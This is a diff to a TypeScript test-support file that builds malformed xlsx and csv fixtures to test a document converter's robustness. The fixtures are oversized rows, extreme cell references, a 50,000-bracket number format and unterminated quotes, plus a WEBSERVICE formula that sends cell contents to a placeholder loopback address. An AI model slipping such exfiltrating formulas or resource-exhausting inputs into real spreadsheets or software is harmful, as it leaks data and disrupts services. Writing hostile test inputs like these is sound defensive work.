@@ -1,5 +1,5 @@
 import type { TypesetFormatId } from 'contract/formats';
-import { madeDocx, madeRelations, madeZip } from './made-package.test-support.ts';
+import { madeDocx, madeRelations, madeXlsx, madeZip } from './made-package.test-support.ts';
 
 export interface HostileFile {
   readonly what: string;
@@ -69,8 +69,37 @@ export function madeHostileFiles(size: number): readonly HostileFile[] {
         { rId1: ['image', 'a.png'] },
       ),
     },
+    { what: 'a formula that calls out', format: 'xlsx', content: madeXlsx({ A: FORMULA }) },
+    { what: 'cells in far corners', format: 'xlsx', content: madeXlsx({ A: FAR }) },
+    {
+      what: 'columns without an end',
+      format: 'xlsx',
+      content: madeXlsx({ A: `<row>${'<c><v>1</v></c>'.repeat(2_000 * size)}</row>` }),
+    },
+    {
+      what: 'a reference that no sheet has',
+      format: 'xlsx',
+      content: madeXlsx({
+        A: '<row r="1e300"><c r="ZZZZZZZZZ1" t="s"><v>-1</v></c><c r="A1" s="1e9"><v>1e999</v></c><c><v>7</v></c></row>',
+      }),
+    },
+    {
+      what: 'a format of nothing but brackets',
+      format: 'xlsx',
+      content: madeXlsx(
+        { A: '<row><c s="0"><v>1</v></c><c><v>2</v></c></row>' },
+        {
+          'xl/styles.xml': `<styleSheet><numFmts><numFmt numFmtId="170" formatCode="${'[&quot;'.repeat(50_000 * size)}"/></numFmts><cellXfs><xf numFmtId="170"/></cellXfs></styleSheet>`,
+        },
+      ),
+    },
+    { what: 'one endless line', format: 'csv', content: 'a,'.repeat(3_000 * size) },
+    { what: 'quotes without an end', format: 'csv', content: '"a,"'.repeat(30_000 * size) },
   ];
 }
+
+const FORMULA = '<row><c t="str"><f>WEBSERVICE("http://127.0.0.1:9/"&amp;A2)</f><v>saved</v></c></row>';
+const FAR = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>';
 
 /** The head of a PNG of 60,000 by 60,000 pixels, and nothing behind it. */
 function hugePicture(): Buffer {
